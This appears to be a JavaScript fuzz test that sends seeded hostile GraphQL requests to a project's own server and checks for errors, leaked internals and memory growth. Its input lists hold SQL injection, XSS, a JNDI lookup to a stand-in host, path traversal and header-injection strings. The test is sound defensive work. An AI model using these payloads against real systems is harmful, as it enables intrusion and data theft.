// Ten thousand requests of somebody who means harm, always the same for the same seed: documents that were tampered with,
// broken JSON, huge numbers, NUL, text that runs right to left, SQL, values of wrong types, odd headers and methods.
// No answer is a 5xx, none tells what is inside, nothing panics or restarts, and memory stays where it was.
import http from 'node:http';
import { ask, memory, random, report, serve, signedIn } from './lib.mjs';

const COUNT = Number(process.env.KAFO_HOSTILE_REQUESTS ?? 10_000);
const SEED = Number(process.env.KAFO_HOSTILE_SEED ?? 20_190_412);
const AT_ONCE = 8;
const GROWTH = 128 * 1024; // kilobytes from the first sample to the last, caches and all
const SLOPE = 24 * 1024; // kilobytes from the second quarter to the last, when caches are full

const { fail, pass, check, done } = report('hostile');
const server = await serve();
const { next, below, pick } = random(SEED);
const people = [{}, await signedIn(server, 'member'), await signedIn(server, 'secretary'), { authorization: 'Bearer no.no.no' }];
const id = (await ask(server, '{ groups(first: 1) { nodes { id } } }', null, people[1])).groups.nodes[0].id;

const TEXTS = [
  "'; DROP TABLE person; --", "' OR '1'='1", '" UNION SELECT password_hash FROM account --', '%_%', '\\', '\u0000', 'a\u0000b', '\u202e\u05d0\u0628 ltr', '\ufeff', '\ud83d\ude80'.repeat(50), '\ud800', '<script>alert(1)</script>', '${jndi:ldap://elsewhere.example/a}',
  '../../../../etc/passwd', '\r\nset-cookie: a=b', 'é'.repeat(5000), '', ' ', '-0', 'NaN', '1e400', '0x7f', '٠١٢', 'grp_', `${id}x`, id.toUpperCase(), '2019-02-30', '99999-01-01', '2019-01-01T25:61:61Z', '{{7*7}}', '\u0007\u001b[31m',
];
const VALUES = [null, true, false, 0, -1, 1.5, 2 ** 31, -(2 ** 31) - 1, 2 ** 53, 1e308, -1e308, [], {}, [[]], [null], [[[[[[]]]]]], { a: { b: { c: [] } } }, { __proto__: 1, constructor: 2 }];
const value = () => (next() < 0.6 ? pick(TEXTS) : pick(VALUES));
const literal = (given) => (typeof given === 'string' ? JSON.stringify(given) : Array.isArray(given) ? `[${given.map(literal).join()}]` : given && typeof given === 'object' ? `{${Object.entries(given).map(([key, one]) => `${key}: ${literal(one)}`).join()}}` : String(given));

const DOCUMENTS = [
  `{ group(by: { id: "${id}" }) { id name meetings(first: 3, orderBy: [{ field: HELD_ON }]) { nodes { title agendaItems { title } } } } }`,
  '{ openActions(first: 5, filter: { text: { contains: "cash" }, dueOn: { lte: "2019-12-31" } }) { totalCount nodes { text assignments { writtenAs } } } }',
  'query ($by: GroupBy!) { group(by: $by) { ...G } } fragment G on Group { id slug parent { id } }',
  '{ people(first: 5, filter: { called: "Exemple" }) { nodes { displayName } } }',
  'mutation ($input: FollowUpCreateInput!) { followUpCreate(input: $input) { followUp { id } userErrors { code field } } }',
  `mutation { groupUpdate(input: { id: "${id}", expectedVersion: 1, name: "Groupe Exemple" }) { group { name } userErrors { code message } } }`,
  'mutation { signIn(input: { email: "personne@kafo.example", password: "mot de passe" }) { accessToken userErrors { code } } }',
  '{ nodes(ids: ["a", "b"]) { id __typename } actionSummary(groupBy: [GROUP, STATUS]) { total { count } rows { counts { count } dueMonth } } }',
  '{ __schema { types { name } } }',
];
/** Cuts, doubles, swaps and inserts, once to four times. */
const tamper = (text) => {
  let made = text;
  for (let turns = 1 + below(4); turns > 0; turns -= 1) {
    const [at, length] = [below(made.length + 1), below(12)];
    const insert = [pick(['{', '}', '(', ')', '[', ']', '"', '"""', '@skip(if: $x)', '...', '$', '!', '#', '\u0000', ':', '1e999', ' on ', '&', '\\u{110000}']), literal(value()), made.slice(at, at + length).repeat(below(6)), String.fromCodePoint(below(0xd7ff))];
    made = made.slice(0, at) + pick(insert) + made.slice(at + (next() < 0.5 ? length : 0));
  }
  return made;
};
/** A document in which one literal has become another. */
const swap = (text) => {
  const places = [...text.matchAll(/"[^"]*"|\b\d+\b/g)];
  const place = pick(places.length ? places : [{ index: 0, 0: '' }]);
  return text.slice(0, place.index) + literal(value()) + text.slice(place.index + place[0].length);
};
const json = (given) => JSON.stringify(given);
const ATTACKS = {
  'a document tampered with': () => ({ body: json({ query: tamper(pick(DOCUMENTS)) }) }),
  'a literal of another kind': () => ({ body: json({ query: swap(pick(DOCUMENTS)) }) }),
  'variables of another kind': () => ({ body: json({ query: DOCUMENTS[2], variables: pick([{ by: { slug: value() } }, { by: { id: value() } }, { by: value() }, value()]) }) }),
  'inputs of another kind': () => ({ body: json({ query: DOCUMENTS[4], variables: { input: { text: value(), meeting: value(), group: id, dueOn: value(), assignees: value(), [pick(TEXTS)]: value() } } }) }),
  'filters': () => ({ body: json({ query: 'query ($f: FollowUpFilter, $o: [FollowUpOrderBy!], $n: Int, $a: String) { openActions(filter: $f, orderBy: $o, first: $n, after: $a) { totalCount nodes { id } } }', variables: { f: { text: { contains: value() }, group: { in: [value()] }, dueOn: { gte: value() } }, n: pick([1, value()]), a: pick([null, value()]) } }) }),
  'texts where texts belong': () => ({ body: json({ query: 'query ($t: String!) { organisations(first: 2, filter: { called: $t }) { nodes { name } } people(first: 2, filter: { called: $t }) { totalCount } groups(filter: { name: { startsWith: $t } }) { totalCount } }', variables: { t: pick(TEXTS) } }) }),
  'broken JSON': () => ({ body: pick([tamper(json({ query: pick(DOCUMENTS) })), '', 'null', '[]', '1', '"query"', '{"query":', '{"query":1}', '{"query":null}', `{"query":"{__typename}","variables":${json(value())}}`, '{"query":"\ud800"}', '['.repeat(3000), `${'{"a":'.repeat(500)}1${'}'.repeat(500)}`, '{"query":"{__typename}","query":"{nope}"}', Buffer.from([0xff, 0xfe, 0x7b, 0x00]), Buffer.from([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x7d])]) }),
  'huge numbers': () => ({ body: `{"query":"query ($n: Int) { groups(first: $n) { totalCount } }","variables":{"n":${pick(['9'.repeat(400), '-1e999', '1e-999', '0.1e1', '00', '1E400'])}}}` }),
  'extensions': () => ({ body: json({ query: '{ __typename }', extensions: value(), operationName: value(), documentId: value() }) }),
  'headers': () => ({ body: json({ query: '{ viewer { isAdmin } }' }), headers: { [pick(['authorization', 'accept', 'accept-language', 'content-type', 'if-none-match', 'idempotency-key', 'x-forwarded-for', 'content-encoding', 'x-request-id', 'origin'])]: pick(['Bearer', 'Bearer ', `Bearer ${'a.'.repeat(2000)}`, 'Basic YTpi', '*/*;q=2', 'application/json; charset=utf-16', 'gzip', ';;;', 'fr-ML;q=abc', "' OR 1=1 --", 'é', '\t']) } }),
  'methods and paths': () => ({ method: pick(['GET', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'TRACE', 'POST']), path: pick(['/graphql', '/graphql/', '/graphql?query=%7B__typename%7D', '/graphql?query=%00&variables=%FF', '/', '/%2e%2e/etc/passwd', `/${'a'.repeat(4000)}`, '/graphql?query=%7B', '/health', '/nope']), body: '' }),
};

/** What an answer must never hold. A request id is all that an unknown failure shows. */
const INSIDE = /panicked|\.rs\b|stack backtrace|sqlx|sea_?orm|rusqlite|SQLITE_|syntax error (at|near)|no such (table|column)|UNIQUE constraint|FOREIGN KEY|\bSELECT .+ FROM\b(?! account --)|password_hash(?! FROM)|argon2|\/home\/|\/root\/|\/usr\/|RUST_BACKTRACE|DbErr|unwrap\(\)/i;

const agent = new http.Agent({ keepAlive: true, maxSockets: AT_ONCE });
const { hostname, port } = new URL(server.origin);
const send = ({ method = 'POST', path = '/graphql', headers = {}, body }) => new Promise((settle) => {
  let request;
  try {
    request = http.request({ agent, hostname, port, method, path, headers: { 'content-type': 'application/json', ...headers }, timeout: 20_000 }, (answer) => {
      const parts = [];
      answer.on('data', (part) => parts.push(part)).on('end', () => settle({ status: answer.statusCode, text: Buffer.concat(parts).toString() })).on('error', (error) => settle({ error: error.message }));
    });
  } catch {
    return settle({ unsent: true }); // what the client itself does not let through
  }
  request.on('timeout', () => request.destroy(new Error('no answer in 20 s'))).on('error', (error) => settle({ error: error.code ?? error.message }));
  request.end(body);
  return undefined;
});

const names = Object.keys(ATTACKS);
const faults = new Map();
const fault = (kind, example) => faults.set(kind, { times: (faults.get(kind)?.times ?? 0) + 1, example: faults.get(kind)?.example ?? example });
const statuses = {};
const sizes = [];
let made = 0;
await Promise.all(Array.from({ length: AT_ONCE }, async () => {
  while (made < COUNT && server.alive) {
    made += 1;
    const [name, who] = [names[made % names.length], pick(people)];
    const attack = ATTACKS[name]();
    attack.headers = { ...who, ...attack.headers };
    const { status, text, error, unsent } = await send(attack);
    if (made % 100 === 0) sizes.push(memory(server));
    if (unsent) continue;
    statuses[status ?? error] = (statuses[status ?? error] ?? 0) + 1;
    const shown = `${attack.method ?? 'POST'} ${attack.path ?? ''} ${String(attack.body).slice(0, 250)}`;
    // What was sent may come back in a message; what is judged is what the server adds.
    if (error) fault(`${name}: ${error}`, shown);
    else if (status >= 500) fault(`${name}: status ${status} ${text.match(/"code":"(\w+)"/)?.[1] ?? ''}`, `${shown} → ${text.slice(0, 200)}`);
    else if (/INTERNAL_SERVER_ERROR/.test(text)) fault(`${name}: INTERNAL_SERVER_ERROR in a ${status}`, `${shown} → ${text.slice(0, 200)}`);
    else if (INSIDE.test(text) && attack.path !== '/') fault(`${name}: internals`, `${shown} → ${text.match(INSIDE)[0]} in ${text.slice(0, 200)}`);
    else pass();
  }
}));
for (const [kind, { times, example }] of faults) fail(`${times} × ${kind}`, example);
const quarter = Math.floor(sizes.length / 4);
const mean = (list) => list.reduce((sum, one) => sum + one, 0) / list.length;
const quarters = [0, 1, 2, 3].map((at) => Math.round(mean(sizes.slice(at * quarter, (at + 1) * quarter)) / 1024));
const growth = Math.round(mean(sizes.slice(-quarter)) - mean(sizes.slice(quarter, 2 * quarter)));
// Of a server that somebody else has started nobody knows it.
if (server.pid) check('memory flat', growth < SLOPE && sizes.at(-1) - sizes[0] < GROWTH, `${sizes[0]} kB at first, ${sizes.at(-1)} kB at last; ${growth} kB from the second to the last quarter`);
const sent = Object.values(statuses).reduce((sum, times) => sum + times, 0);
check('nearly all were sent', sent >= COUNT * 0.97, `${sent} of ${COUNT}`);
check('some got through', (statuses[200] ?? 0) >= COUNT / 4, JSON.stringify(statuses));
check('requests were judged, not only turned away', ((statuses[429] ?? 0) + (statuses[503] ?? 0)) < COUNT / 100, JSON.stringify(statuses));
check('it still answers', (await ask(server, '{ __typename }', null, people[1]).catch(() => null))?.__typename === 'Query');
await done(`${made} requests, seed ${SEED}, ${Object.entries(statuses).map(([status, times]) => `${status}: ${times}`).join(', ')}; memory by quarters ${quarters.join(', ')} MiB`, server);
